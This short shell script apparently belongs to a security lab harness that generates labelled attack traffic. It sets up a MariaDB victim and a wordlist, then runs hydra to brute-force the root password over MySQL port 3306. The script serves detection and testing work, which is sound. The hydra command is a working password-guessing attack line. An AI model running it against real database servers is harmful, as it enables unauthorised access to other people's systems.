# SPDX-License-Identifier: MIT
# label: bruteforce-other
# source: lab-hydra
# needs: hydra mariadbd
# seconds: 90
# Passwords for a data base.
. $lab/victims.sh

servers() {
	victim_mysql e
	words_up 150
}

scenario() {
	cd "$work" || return
	_tasks=$(choose 1 4)
	_from=$(choose b y)
	setting options "-t $_tasks from $_from"
	sleep 2
	attack "$_from" e tcp 3306 -- timeout 50 hydra -I -t "$_tasks" -l root -P "$work/words" \
		"$(addr e)" mysql
}
